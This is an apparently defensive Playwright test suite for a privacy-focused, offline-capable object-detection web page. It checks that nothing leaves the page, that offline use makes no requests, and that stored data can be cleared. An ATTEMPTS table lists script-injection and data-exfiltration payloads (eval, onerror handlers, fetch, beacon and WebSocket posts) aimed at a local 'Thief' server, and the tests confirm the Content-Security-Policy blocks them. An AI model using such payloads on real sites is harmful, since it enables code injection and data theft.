"""Nothing leaves the page: not in use, not if somebody gets code into it; and what is kept can be seen and cleared."""

import json
import re
import shutil
import threading
import zipfile
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.line import PlainHost
from tests.browser.live_page import LIMIT_S, LivePage
from tests.browser.page.test_page import record_clip
from tools.common import paths
from tools.release import bundle
from tools.serve.onlooker.server import CONTENT_SECURITY_POLICY

Visit = Callable[..., LivePage]

TEN_MINUTES = 600  # results: a scene in which nothing moves is looked at once a second

# Everything else by which a page can send something, or take the visitor elsewhere.
WATCH = """
window.left = [];
for (const name of ["RTCPeerConnection", "WebSocket", "EventSource", "WebTransport", "XMLHttpRequest"]) {
  const real = window[name];
  if (!real) continue;
  window[name] = new Proxy(real, { construct(target, args) { left.push(name); return new target(...args); } });
}
for (const [owner, name] of [[navigator, "sendBeacon"], [window, "open"], [HTMLFormElement.prototype, "submit"]]) {
  const real = owner[name];
  owner[name] = function (...args) { left.push(name); return real.apply(this, args); };
}
"""
PERMISSIONS = ["camera", "clipboard-read", "clipboard-write"]
DROP = """
async (address) => {
  const blob = await (await fetch(address)).blob();
  const data = new DataTransfer();
  data.items.add(new File([blob], "dropped.png", { type: "image/png" }));
  document.getElementById("stage").dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true }));
}
"""
KEYS = "Object.keys(localStorage).filter((name) => name.startsWith('onlooker:')).sort()"


def test_everything_is_used_and_nothing_is_sent(
    visit: Visit, camera_browser: Browser, photo_folder: Path, tmp_path: Path
) -> None:
    live = visit(using=camera_browser, init=WATCH, permissions=PERMISSIONS)
    sent: list[tuple[str, str, str | None]] = []
    elsewhere: list[str] = []
    context = live.page.context
    context.on("request", lambda request: sent.append((request.method, request.url, request.post_data)))
    context.on("page", lambda page: elsewhere.append(page.url))
    live.page.on("websocket", lambda socket: elsewhere.append(socket.url))
    live.page.on("framenavigated", lambda frame: elsewhere.append(frame.url))
    live.until_python()
    live.page.click("#more")
    live.page.wait_for_selector("#set-model option[value=coco-ssd-tiny]", state="attached")
    clip = record_clip(live, tmp_path)
    live.page.evaluate(DROP, "/photos/coffee.png")
    live.until("ready")
    for model in ("coco-ssd-tiny", "coco-ssd-lite"):
        live.page.select_option("#set-model", model)
        use_everything(live, photo_folder, clip, 20)
    sample = live.page.locator("#samples button").first
    sample.wait_for()
    sample.click()
    live.until("ready")
    asked = [url for _, url, _ in sent if not url.startswith(("blob:", "data:"))]
    assert len(asked) > 30, "the listener hears"
    assert all(url.startswith(live.address) and "?" not in url for url in asked)
    assert {(method, body) for method, _, body in sent} == {("GET", None)}
    assert live.page.evaluate("left") == []
    # The panel puts settings into the address, of this page.
    assert {url.split("?")[0] for url in elsewhere} <= {live.address}


def test_once_it_is_loaded_ten_minutes_of_use_ask_nobody_for_anything(
    bundled: Path, camera_browser: Browser, photo_folder: Path, tmp_path: Path
) -> None:
    with zipfile.ZipFile(bundled) as archive:
        archive.extractall(tmp_path, [name for name in archive.namelist() if not name.endswith(".br")])
    shutil.copytree(photo_folder, tmp_path / bundle.NAME / "photos")  # to make a clip of
    host = PlainHost(tmp_path / bundle.NAME)
    context = camera_browser.new_context(permissions=PERMISSIONS)
    context.set_default_timeout(1000 * LIMIT_S)
    live = LivePage(context.new_page(), host.address, WATCH)
    live.open("")
    live.until_python()
    live.page.click("#more")
    live.give_files(photo_folder / "coffee.png")
    live.until("ready")
    live.page.check("#offline-studio")
    live.page.locator("#offline-text", has_text="and its studio are kept").wait_for()
    live.page.reload()
    live.until_python()
    live.page.click("#more")
    clip = record_clip(live, tmp_path)
    use_everything(live, photo_folder, clip, 5)

    host.asked.clear()
    use_everything(live, photo_folder, clip, TEN_MINUTES)
    # Browsers look by themselves for a newer service worker.
    assert [path for path in host.asked if not path.endswith("/sw.js")] == []
    assert live.page.evaluate("left") == []
    live.assert_clean()
    context.close()
    host.unplug()


def use_everything(live: LivePage, photo_folder: Path, clip: Path, camera_results: int) -> None:
    """Each source, each control, each way to save; all parts that it needs are loaded by the first time."""
    page = live.page
    cup, cat = photo_folder / "coffee.png", photo_folder / "chelsea.png"
    live.give_files(cup)
    live.until("ready")
    for name, value in (("iou", "0.5"), ("max", "10")):
        page.fill(f"#set-{name}", value)
    for name, value in (("boxes", "corners"), ("mirror", "1"), ("skip", "0"), ("facing", "environment")):
        page.select_option(f"#set-{name}", value)
    page.fill("#threshold", "0.4")
    page.fill("#class-search", "cup")
    page.fill("#class-search", "")
    page.click("#share")
    for name in ("save-json", "save-csv", "save-coco", "snapshot"):
        with page.expect_download():
            page.click(f"#{name}")
    page.click("#copy-picture")
    expect(page.locator("#exports-text")).to_have_text("The picture is copied.")
    with page.expect_download():
        page.click("#full-size")
    live.give_files(cup, cat)
    expect(page.locator("#strip-list button")).to_have_count(2)
    with page.expect_download():
        page.click("#strip-save")
    expect(page.locator("#strip-sheet")).to_be_enabled()
    with page.expect_download():
        page.click("#strip-sheet")
    expect(page.locator("#heat")).to_be_enabled()
    page.click("#heat")
    page.locator("#heat-map:not([hidden])").wait_for()
    with page.expect_download():
        page.click("#heat-save")
    live.stop()
    before = len(live.results)
    live.give_files(clip)
    live.until_results(before + 1)
    live.stop()
    before = len(live.results)
    live.start()
    live.until_results(before + camera_results, seconds=600)
    page.select_option("#set-resolution", "320x240")
    live.until_results(len(live.results) + 3)
    live.stop()
    page.click("#reset")


# What somebody would try who got a script's text, a picture or a request into the page. Each says how it went.
ATTEMPTS = {
    "an inline script": "add('script', { textContent: 'window.stolen = 1' })",
    "a foreign script": "add('script', { src: there + 'script' })",
    "a script from a data address": "add('script', { src: 'data:text/javascript,window.stolen=1' })",
    "a foreign module": "import(there + 'module')",
    "eval": "Promise.resolve().then(() => (0, eval)('window.stolen = 1'))",
    "a new Function": "Promise.resolve().then(() => new Function('window.stolen = 1')())",
    "an inline handler": "add('div', { innerHTML: '<img src=data:, onerror=\"window.stolen=1\">' })",
    "fetch": "fetch(there + 'fetch', { method: 'POST', body: 'frame', mode: 'no-cors' })",
    "XMLHttpRequest": "new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no;"
    " x.open('POST', there + 'xhr'); x.send('frame'); })",
    "a beacon": "Promise.resolve(navigator.sendBeacon(there + 'beacon', 'frame'))",
    "a picture": "add('img', { src: there + 'image?frame' })",
    "a style sheet": "add('link', { rel: 'stylesheet', href: there + 'style?frame' })",
    "a style's picture": "(document.body.style.backgroundImage = `url(${there}css?frame)`, Promise.resolve())",
    "a font": "new FontFace('x', `url(${there}font?frame)`).load()",
    "a prefetch": "add('link', { rel: 'prefetch', href: there + 'prefetch?frame' })",
    "a video": "add('video', { src: there + 'video?frame' })",
    "an object": "add('object', { data: there + 'object?frame' })",
    "a frame": "add('iframe', { src: there + 'frame?frame' })",
    "a socket": "new Promise((yes, no) => { const s = new WebSocket(there.replace('http', 'ws') + 'socket');"
    " s.onopen = yes; s.onerror = no; })",
    "an event source": "new Promise((yes, no) => { const s = new EventSource(there + 'events');"
    " s.onopen = yes; s.onerror = () => { s.close(); no(); }; })",
    "a foreign worker": "Promise.resolve().then(() => new Worker(there + 'worker'))",
    "a worker from a blob": "new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['1'])));"
    " w.onmessage = yes; w.onerror = no; })",
    "a form": "(add('form', { action: there + 'form', method: 'post', target: 'x' }), document.forms[0].submit(),"
    " Promise.resolve())",
    "another base": "(add('base', { href: there }), fetch('./index.html').then((got) => got.url.startsWith(there)"
    " ? 1 : Promise.reject()))",
}
UNHEARD = {"a foreign worker"}
TRY = """
async ([there, attempt, patience]) => {
  const violations = [];
  document.addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective));
  const add = (name, fields) => new Promise((yes, no) => {
    const made = Object.assign(document.createElement(name), fields);
    made.onload = yes;
    made.onerror = no;
    document.body.append(made);
    setTimeout(no, 1500);
  });
  const tried = new Promise((resolve) => import(URL.createObjectURL(new Blob([""]))).catch(resolve));
  await tried; // which is one more thing that the policy forbids
  violations.length = 0;
  const heard = new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", resolve, { once: true });
    setTimeout(resolve, patience);
  });
  ATTEMPT
  await heard;
  return { violations, stolen: window.stolen ?? null };
}
"""


class Thief:
    """Another origin that lets everybody in, and notes who came."""

    def __init__(self) -> None:
        came = self.came = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                came.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
                self.end_headers()

            do_POST = do_OPTIONS = do_HEAD = do_GET

            def log_message(self, format: str, *values: object) -> None:
                """The test asks `came`."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://localhost:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.mark.parametrize("plain", [False, True], ids=["with headers", "on a plain host"])
def test_the_policy_forbids_it_to_injected_code_too(browser: Browser, server: object, plain: bool) -> None:
    thief = Thief()
    context = browser.new_context(service_workers="block")
    context.set_default_timeout(1000 * LIMIT_S)
    page = context.new_page()
    if plain:  # the policy in the page alone, as where no headers can be sent

        def without_policy(route: object) -> None:
            response = route.fetch()  # type: ignore[attr-defined]
            headers = {k: v for k, v in response.headers.items() if k != "content-security-policy"}
            route.fulfill(response=response, headers=headers)  # type: ignore[attr-defined]

        page.route(server.address, without_policy)  # type: ignore[attr-defined]
    page.goto(server.address)  # type: ignore[attr-defined]
    page.locator("html[data-ready]").wait_for(state="attached")
    unheard = set()
    for name, attempt in ATTEMPTS.items():
        code = TRY.replace("ATTEMPT", f"await Promise.resolve({attempt}).then(() => {{}}, () => {{}});")
        # Of what must be heard, however late; where nothing is to be heard, two seconds of silence are enough.
        patience = 2000 if name in UNHEARD else 1000 * LIMIT_S
        told = page.evaluate(code, [thief.address, name, patience])
        if not told["violations"]:
            unheard.add(name)
        assert told["stolen"] is None, f"{name} ran"
    assert thief.came == []
    assert unheard == UNHEARD, "workers are of the page's origin without any policy"
    assert page.evaluate("location.href") == server.address  # type: ignore[attr-defined]
    context.close()
    thief.server.shutdown()
    thief.server.server_close()


def test_the_page_and_its_server_say_the_same_policy() -> None:
    index = (paths.ROOT / "index.html").read_text("utf-8")
    (said,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', index)
    assert said.split("; ") == [
        one for one in CONTENT_SECURITY_POLICY.split("; ") if not one.startswith("frame-ancestors")
    ]


def test_what_is_kept_is_listed_and_cleared(visit: Visit, photo_folder: Path) -> None:
    live = visit(service_workers="allow")
    live.until_python()
    live.page.click("#more")
    live.page.select_option("#set-boxes", "corners")
    live.give_files(photo_folder / "chelsea.png")
    live.until("ready")
    live.page.locator("#offline-toggle:not([hidden])", has_text="Remove").wait_for()
    live.page.click("#more")
    live.page.click("#more")
    kept = live.page.locator("#kept")
    expect(kept).to_contain_text("The settings that you changed")
    expect(kept).to_contain_text("That the network computes a known picture right here")
    expect(kept).to_contain_text(re.compile(r"The copy for use without a network, \d+\.\d MB"))
    listed = len(live.page.locator("#kept li").all())
    assert listed == len(live.page.evaluate(KEYS)) + 1, "nothing is kept that is not listed"

    live.page.click("#clear-kept")
    expect(live.page.locator("#kept-text")).to_contain_text("the next visit begins as the first")
    expect(live.page.locator("#kept li")).to_have_text(["Nothing is kept."])
    expect(live.page.locator("#clear-kept")).to_be_disabled()
    assert live.page.evaluate(KEYS) == []
    assert live.page.evaluate("caches.keys()") == []
    assert live.page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
    assert live.page.evaluate("document.cookie") == ""
    live.page.reload()
    live.until_python()
    assert live.data["state"] == "idle"
    assert json.loads(live.page.evaluate("JSON.stringify(Object.keys(localStorage))")) == []
